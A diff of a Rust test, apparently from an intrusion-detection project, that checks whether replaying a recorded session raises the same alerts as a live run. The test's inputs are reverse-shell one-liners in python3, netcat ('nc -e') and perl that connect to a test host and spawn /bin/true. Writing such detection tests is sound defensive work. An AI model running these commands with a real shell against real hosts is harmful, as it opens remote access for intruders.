@@ -7,7 +7,7 @@ use lapwing_stage::{Alert, until};
 use serde_json::Value as Json;
 
 use crate::reverse_shell::end;
-use crate::{PATIENCE, Stage, is_there, project, stage};
+use crate::{PATIENCE, Stage, is_there, project, reverse_shell, stage};
 
 /// Starts a recording of what the agent sees, and waits until it is under way.
 fn record(stage: &Stage, file: &Path) -> Child {
@@ -38,6 +38,8 @@ fn essence(alert: &Json) -> Json {
 fn a_replay_raises_the_alerts_of_the_live_run() {
     let stage = stage();
     let far = stage.hosts.far.address();
+    let nc =
+        if is_there("nc.traditional") { reverse_shell::link("nc", "nc.traditional") } else { String::new() };
     let acts = [
         (
             "python3",
@@ -45,7 +47,7 @@ fn a_replay_raises_the_alerts_of_the_live_run() {
                 "python3 -c 'import socket,pty;s=socket.socket();s.connect((\"{far}\",4301));pty.spawn(\"/bin/true\")'"
             ),
         ),
-        ("nc", format!("nc -e /bin/true {far} 4302")),
+        ("nc.traditional", format!("{nc} -e /bin/true {far} 4302")),
         (
             "perl",
             format!(
